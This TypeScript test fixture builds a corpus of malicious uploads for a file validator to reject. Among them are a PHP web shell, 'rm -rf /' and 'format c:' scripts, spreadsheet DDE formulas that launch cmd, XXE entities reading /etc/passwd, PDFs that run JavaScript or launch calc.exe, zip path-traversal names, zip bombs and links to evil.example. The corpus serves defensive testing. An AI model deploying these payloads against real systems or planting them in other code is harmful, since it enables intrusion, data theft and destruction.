/** For tests: documents that must not be kept, each with why. */
import { deflateSync, gzipSync } from 'node:zlib'
import { crc32 } from 'node:zlib'
import { hiddenObjects, manyPages, pdfOf, pdfWith, streamOf } from './pdf.ts'
import { contentTypes, openDocument, relationship, sheetWith, wordWith, zipOf } from './zip.ts'

export type Hostile = { readonly what: string; readonly bytes: Buffer }

const chunk = (type: string, data: Buffer): Buffer => {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data])
  const ends = Buffer.alloc(8)
  ends.writeUInt32BE(data.length, 0)
  ends.writeUInt32BE(crc32(body), 4)
  return Buffer.concat([ends.subarray(0, 4), body, ends.subarray(4)])
}

/** A PNG that says it is `width` x `height`, with `data` for its points. */
export function pngSaying(width: number, height: number, data: Buffer, depth = 8, colour = 2): Buffer {
  const header = Buffer.alloc(13)
  header.writeUInt32BE(width, 0)
  header.writeUInt32BE(height, 4)
  header[8] = depth
  header[9] = colour
  return Buffer.concat([
    Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(data)),
    chunk('IEND', Buffer.alloc(0)),
  ])
}

function jpegSaying(width: number, height: number): Buffer {
  const frame = Buffer.from('ffd8ffc0001108000000000301220002110103110100ffd9', 'hex')
  frame.writeUInt16BE(height, 7)
  frame.writeUInt16BE(width, 9)
  return frame
}

function webpSaying(width: number, height: number): Buffer {
  const whole = Buffer.alloc(40)
  whole.write('RIFF', 0, 'latin1')
  whole.writeUInt32LE(32, 4)
  whole.write('WEBPVP8X', 8, 'latin1')
  whole.writeUInt32LE(10, 16)
  whole.writeUIntLE(width - 1, 24, 3)
  whole.writeUIntLE(height - 1, 27, 3)
  return whole
}

const one = (what: string, bytes: Buffer | string): Hostile => ({ what, bytes: Buffer.from(bytes as Buffer) })

const SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
const HTML = '<!doctype html><html><body><script>alert(1)</script></body></html>'
const EICAR = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$', 'EICAR-STANDARD-ANTIVIRUS-TEST-FILE', '!$H+H*'].join('')

const texts = (): readonly Hostile[] => [
  one('nothing at all', ''),
  one('SVG with a script, called picture.png', SVG),
  one('HTML called picture.png', HTML),
  one('HTML after white space', `\n\n   ${HTML}`),
  one('HTML after a mark of UTF-8', `\ufeff${HTML}`),
  one('words with a script in the middle', `Bonjour\n${'x'.repeat(9000)}<script>alert(1)</script>`),
  one('an inner frame', 'Liste\n<iframe src="https://evil.example"></iframe>'),
  one(
    'XML with an outside entity',
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  ),
  one('PHP', '<?php system($_GET["c"]); ?>'),
  one('a shell script', '#!/bin/sh\nrm -rf /\n'),
  one('PostScript', '%!PS-Adobe-3.0\n(%pipe%id) (w) file'),
  one('RTF', '{\\rtf1\\ansi{\\object\\objdata 0105}}'),
  one('a batch file', '@echo off\r\nformat c:\r\n'),
  one('an internet shortcut', '[InternetShortcut]\r\nURL=file://evil.example/x\r\n'),
  one('a web archive', 'MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n'),
  one('a link that runs', 'voir javascript:alert(1)'),
  one('a cell that runs a program', "nom;valeur\n=cmd|'/C calc'!A0;1\n"),
  one('a quoted cell that runs a program', '"nom","@SUM(1+1)*cmd|\' /C calc\'!A0"\n'),
  one('the trial line of virus scanners', EICAR),
  one('text with a NUL', 'abc\0def'),
  one('a NUL far behind', `${'a'.repeat(5000)}\0`),
  one('text in UTF-16', Buffer.from('\ufeffBonjour', 'utf16le')),
  one('text in Latin-1', Buffer.from('évêché', 'latin1')),
  one('overlong UTF-8', Buffer.from([0x2f, 0xc0, 0xaf, 0x2e])),
  one('half a letter at the end', Buffer.from([0x61, 0xd8])),
  one('an escape for terminals', 'abc\u001b]0;x\u0007'),
  one(
    'a program of Windows',
    Buffer.concat([Buffer.from('MZ\x90\0\x03\0\0\0', 'latin1'), Buffer.alloc(512)]),
  ),
  one(
    'a program of Linux',
    Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01\0', 'latin1'), Buffer.alloc(64)]),
  ),
  one('an old office document', Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(1024)])),
  one('a GIF', Buffer.from('GIF89a\x01\0\x01\0\0\0\0;', 'latin1')),
  one('gzip', gzipSync('x')),
  one('noise', Buffer.from(Array.from({ length: 4096 }, (_, k) => (k * 7919) % 251))),
]

const images = (): readonly Hostile[] => [
  one('PNG that says 100,000 x 100,000', pngSaying(100_000, 100_000, Buffer.alloc(10))),
  one('PNG of 50,000 x 50,000 with its points', pngSaying(50_000, 50_000, Buffer.alloc(8_000_000))),
  one('PNG that says 4,294,967,295 x 1', pngSaying(0xffffffff, 1, Buffer.alloc(10))),
  one('PNG of 16 bits that weighs too much', pngSaying(5000, 4000, Buffer.alloc(10), 16, 6)),
  one('PNG of no width', pngSaying(0, 10, Buffer.alloc(10))),
  one('PNG cut off', pngSaying(10, 10, Buffer.alloc(310)).subarray(0, 40)),
  one('PNG without points', pngSaying(100, 100, Buffer.alloc(3))),
  one(
    'SVG behind the first bytes of a PNG',
    Buffer.concat([Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'), Buffer.from(SVG)]),
  ),
  one('JPEG that says 65,500 x 65,500', jpegSaying(65_500, 65_500)),
  one('JPEG of its header only', jpegSaying(10, 10)),
  one(
    'HTML behind the first bytes of a JPEG',
    Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.from(HTML)]),
  ),
  one('WebP that says 16,000 x 16,000', webpSaying(16_000, 16_000)),
  one('WebP of its header only', webpSaying(10, 10)),
  one('HTML inside a WebP', Buffer.concat([Buffer.from('RIFF\x20\0\0\0WEBP', 'latin1'), Buffer.from(HTML)])),
]

const JS = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'

const pdfs = (): readonly Hostile[] => [
  one('PDF that runs JavaScript when opened', pdfWith({ catalogue: `/OpenAction ${JS}` })),
  one('PDF with JavaScript in an object of its own', pdfWith({ catalogue: '/OpenAction 4 0 R', more: [JS] })),
  one(
    'PDF with spelled JavaScript',
    pdfWith({ catalogue: '/OpenAction << /S /J#61vaScr#69pt /#4aS (x) >>' }),
  ),
  one(
    'PDF with named JavaScript',
    pdfWith({ catalogue: `/Names << /JavaScript << /Names [(a) ${JS}] >> >>` }),
  ),
  one('PDF that starts a program', pdfWith({ catalogue: '/OpenAction << /S /Launch /F (calc.exe) >>' })),
  one('PDF with an action on a page', pdfWith({ page: `/AA << /O ${JS} >>` })),
  one(
    'PDF with an action on a note',
    pdfWith({ page: `/Annots [<< /Type /Annot /Subtype /Link /A ${JS} >>]` }),
  ),
  one(
    'PDF that carries a file',
    pdfWith({
      catalogue: '/Names << /EmbeddedFiles << /Names [(x.exe) 4 0 R] >> >>',
      more: ['<< /Type /Filespec /EF << /F 5 0 R >> >>', streamOf('MZ', '/Type /EmbeddedFile')],
    }),
  ),
  one('PDF with rich media', pdfWith({ page: '/Annots [<< /Type /Annot /Subtype /RichMedia >>]' })),
  one(
    'PDF with a dynamic form',
    pdfWith({ catalogue: '/AcroForm << /XFA 4 0 R >>', more: [streamOf('<xdp/>')] }),
  ),
  one(
    'PDF that sends a form',
    pdfWith({ page: '/Annots [<< /Subtype /Widget /A << /S /SubmitForm /F (http://evil.example) >> >>]' }),
  ),
  one(
    'PDF that opens another',
    pdfWith({ catalogue: '/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\x.pdf) >>' }),
  ),
  one(
    'PDF with JavaScript in an object stream',
    pdfWith({ catalogue: '/OpenAction 10 0 R', more: [hiddenObjects([JS])] }),
  ),
  one(
    'PDF with spelled names in an object stream',
    pdfWith({
      catalogue: '/OpenAction 10 0 R',
      more: [hiddenObjects(['<< /S /J#53 >>', '<< /S /L#61unch /F (x) >>'])],
    }),
  ),
  one(
    'PDF with an object stream that does not say its name',
    pdfWith({ catalogue: '/OpenAction 10 0 R', more: [hiddenObjects([JS], 10, '')] }),
  ),
  one(
    'PDF with an object stream that says it is a picture',
    pdfWith({
      catalogue: '/OpenAction 10 0 R',
      more: [hiddenObjects([JS], 10, '/Type /ObjStm /Subtype /Image')],
    }),
  ),
  one(
    'PDF with objects packed in an unusual way',
    pdfWith({ more: [streamOf(Buffer.from('3c3c3e3e>'), '/Type /ObjStm /N 1 /First 4', '/ASCIIHexDecode')] }),
  ),
  one(
    'PDF with objects packed twice',
    pdfWith({ more: [streamOf('x', '/Type /ObjStm /N 1 /First 4', '[/FlateDecode /FlateDecode]')] }),
  ),
  one(
    'PDF with two catalogues, the first of which runs',
    Buffer.concat([pdfWith({ catalogue: `/OpenAction ${JS}` }), pdfWith({}).subarray(9)]),
  ),
  one(
    'PDF with an object stream that unpacks to 300 MB',
    pdfWith({ more: [streamOf(Buffer.alloc(60_000_000, 32), '/Type /ObjStm /N 1 /First 4')] }),
  ),
  one(
    'PDF with many streams that unpack to much',
    pdfWith({ more: Array.from({ length: 12 }, () => streamOf(Buffer.alloc(20_000_000, 32))) }),
  ),
  one('PDF of 100,000 pages', manyPages(100_000)),
  one('PDF of 501 pages', manyPages(501)),
  one(
    'PDF whose list of pages holds itself',
    pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [2 0 R] /Count 1 >>']),
  ),
  one(
    'PDF without pages',
    pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>']),
  ),
  one('PDF of deeply nested lists', pdfWith({ page: `/X ${'['.repeat(200_000)}${']'.repeat(200_000)}` })),
  one(
    'PDF with a password',
    pdfWith({}, { trailer: '/Encrypt << /Filter /Standard /V 1 /R 2 /O (x) /U (x) /P -4 >>' }),
  ),
  one('PDF cut off', pdfWith({}).subarray(0, 200)),
  one('PDF of its first line', '%PDF-1.7\n'),
  one('PDF behind HTML', pdfWith({}, { front: `${HTML}\n` })),
  one('PDF with HTML behind', pdfWith({}, { behind: HTML })),
  one('PDF with a zip behind', Buffer.concat([pdfWith({}), wordWith([])])),
  one('PDF with an unending stream', pdfWith({ more: ['<< /Length 99999 >>\nstream\nabc'] })),
]

const DTD =
  '<?xml version="1.0"?><!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document>&x;</w:document>'
const LAUGHS = `<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha">${'bcdefgh'
  .split('')
  .map((n, k) => `<!ENTITY ${n} "${`&${'abcdefg'[k]};`.repeat(10)}">`)
  .join('')}]><l>&h;</l>`
const bomb = Buffer.alloc(60_000_000, 65)

const zips = (): readonly Hostile[] => [
  one('a plain archive', zipOf([{ name: 'a.txt', content: 'x' }])),
  one('an archive of a program called docx', zipOf([{ name: 'setup.exe', content: 'MZ' }])),
  one('Word with an outside entity', wordWith([{ name: 'word/document.xml', content: DTD }])),
  one('Word with a billion laughs', wordWith([{ name: 'word/document.xml', content: LAUGHS }])),
  one(
    'Word with a definition in UTF-16',
    wordWith([{ name: 'word/document.xml', content: Buffer.from(DTD, 'utf16le') }]),
  ),
  one(
    'Word that says UTF-7',
    wordWith([{ name: 'word/document.xml', content: '<?xml version="1.0" encoding="UTF-7"?><a/>' }]),
  ),
  one('Word with macros', wordWith([{ name: 'word/vbaProject.bin', content: 'x' }])),
  one('Word with macros under another case', wordWith([{ name: 'word/VBAPROJECT.BIN', content: 'x' }])),
  one(
    'Word that says it has macros',
    wordWith([
      {
        name: '[Content_Types].xml',
        content: contentTypes('application/vnd.ms-word.document.macroEnabled.main+xml'),
      },
    ]),
  ),
  one('Word with an ActiveX control', wordWith([{ name: 'word/activeX/activeX1.xml', content: '<a/>' }])),
  one(
    'Word with a template elsewhere',
    wordWith([
      {
        name: 'word/_rels/settings.xml.rels',
        content: relationship('attachedTemplate', 'http://evil.example/x.dotm'),
      },
    ]),
  ),
  one(
    'Word with a picture elsewhere',
    wordWith([
      { name: 'word/_rels/document.xml.rels', content: relationship('image', 'http://evil.example/x.png') },
    ]),
  ),
  one(
    'Word with an object elsewhere',
    wordWith([
      {
        name: 'word/_rels/document.xml.rels',
        content: relationship('oleObject', 'mhtml:http://evil.example/x!x'),
      },
    ]),
  ),
  one(
    'Word with a link that runs',
    wordWith([
      { name: 'word/_rels/document.xml.rels', content: relationship('hyperlink', 'javascript:alert(1)') },
    ]),
  ),
  one(
    'Word with a link to a shared folder',
    wordWith([{ name: 'word/_rels/document.xml.rels', content: relationship('hyperlink', '\\\\evil\\x') }]),
  ),
  one(
    'Word with a field that starts a program',
    wordWith([
      {
        name: 'word/document.xml',
        content: '<w:document><w:instrText>DDEAUTO c:\\\\cmd.exe "/k calc"</w:instrText></w:document>',
      },
    ]),
  ),
  one('Word with an HTML part', wordWith([{ name: 'word/afchunk.html', content: HTML }])),
  one('Word with a drawing that runs', wordWith([{ name: 'word/media/a.svg', content: SVG }])),
  one(
    'Word with an archive inside',
    wordWith([{ name: 'word/embeddings/a.bin', content: zipOf([{ name: 'a', content: 'x' }]) }]),
  ),
  one(
    'Word with an archive inside that has another name',
    wordWith([{ name: 'word/media/image1.png', content: gzipSync('x') }]),
  ),
  one(
    'Word with an old office document inside',
    wordWith([{ name: 'word/embeddings/o.bin', content: Buffer.from('d0cf11e0a1b11ae1', 'hex') }]),
  ),
  one('Word with a program inside', wordWith([{ name: 'word/media/x.exe', content: 'x' }])),
  one('a name that climbs', wordWith([{ name: '../../etc/cron.d/x', content: 'x' }])),
  one('a name that climbs with backslashes', wordWith([{ name: '..\\..\\x', content: 'x' }])),
  one('an absolute name', wordWith([{ name: '/etc/passwd', content: 'x' }])),
  one('a name of a drive', wordWith([{ name: 'C:/x', content: 'x' }])),
  one('a name with a line feed', wordWith([{ name: 'word/a\nb.xml', content: 'x' }])),
  one('a name that is turned around', wordWith([{ name: 'word/a\u202egnp.xml', content: 'x' }])),
  one('a link', wordWith([{ name: 'word/link', content: '/etc/passwd', mode: 0xa1ff }])),
  one('a device', wordWith([{ name: 'word/dev', content: '', mode: 0x21b6 }])),
  one('an entry with a password', wordWith([{ name: 'word/x.xml', content: '<a/>', flags: 1 }])),
  one('a bomb of one entry', wordWith([{ name: 'word/x.bin', content: bomb }])),
  one(
    'a bomb of two entries',
    wordWith([
      { name: 'word/x.bin', content: bomb },
      { name: 'word/y.bin', content: bomb },
    ]),
  ),
  one('a bomb that says it is small', wordWith([{ name: 'word/x.bin', content: bomb, saysBytes: 1000 }])),
  one(
    '1,200 entries',
    wordWith(Array.from({ length: 1200 }, (_, k) => ({ name: `word/${k}.xml`, content: '<a/>' }))),
  ),
  one(
    'the same name twice',
    zipOf([
      ...['word/a.xml', 'word/A.xml'].map((name) => ({ name, content: '<a/>' })),
      {
        name: '[Content_Types].xml',
        content: contentTypes(
          'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml',
        ),
      },
      { name: 'word/document.xml', content: '<a/>' },
    ]),
  ),
  one(
    'two names for one entry',
    wordWith([{ name: 'word/a.xml', localName: 'word/b.exe', content: '<a/>' }]),
  ),
  one('something between the entries', wordWith([], { between: HTML })),
  one('something behind the list', wordWith([], { behind: HTML })),
  one('Word cut off', wordWith([]).subarray(0, 300)),
  one(
    'Word without a document',
    zipOf([
      {
        name: '[Content_Types].xml',
        content: contentTypes(
          'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml',
        ),
      },
    ]),
  ),
  one(
    'table with outside links',
    sheetWith([{ name: 'xl/externalLinks/externalLink1.xml', content: '<a/>' }]),
  ),
  one('table with connections', sheetWith([{ name: 'xl/connections.xml', content: '<a/>' }])),
  one('table with old macros', sheetWith([{ name: 'xl/macrosheets/sheet1.xml', content: '<a/>' }])),
  one(
    'OpenDocument with Basic',
    openDocument('text', '<a/>', [{ name: 'Basic/Standard/Module1.xml', content: '<a/>' }]),
  ),
  one(
    'OpenDocument with scripts',
    openDocument('text', '<a/>', [{ name: 'Scripts/python/x.txt', content: 'x' }]),
  ),
  one(
    'OpenDocument that listens to events',
    openDocument(
      'text',
      '<office:scripts><script:event-listener xlink:href="vnd.sun.star.script:x"/></office:scripts>',
    ),
  ),
  one(
    'OpenDocument with a picture elsewhere',
    openDocument('text', '<draw:image xlink:href="http://evil.example/x.png"/>'),
  ),
  one(
    'OpenDocument with a section elsewhere',
    openDocument('text', '<text:section-source xlink:href="file:///etc/passwd"/>'),
  ),
  one(
    'OpenDocument with a link that runs',
    openDocument('text', '<text:a xlink:href="vnd.sun.star.script:x"/>'),
  ),
  one(
    'OpenDocument with DDE',
    openDocument(
      'spreadsheet',
      '<table:dde-link><office:dde-source office:dde-application="cmd"/></table:dde-link>',
    ),
  ),
  one(
    'OpenDocument with a definition',
    openDocument('text', '<!DOCTYPE a SYSTEM "http://evil.example/x.dtd"><a/>'),
  ),
  one(
    'a presentation',
    zipOf([
      { name: 'mimetype', content: 'application/vnd.oasis.opendocument.presentation', stored: true },
      { name: 'content.xml', content: '<a/>' },
    ]),
  ),
]

export function hostileFiles(): readonly Hostile[] {
  return [...texts(), ...images(), ...pdfs(), ...zips()]
}
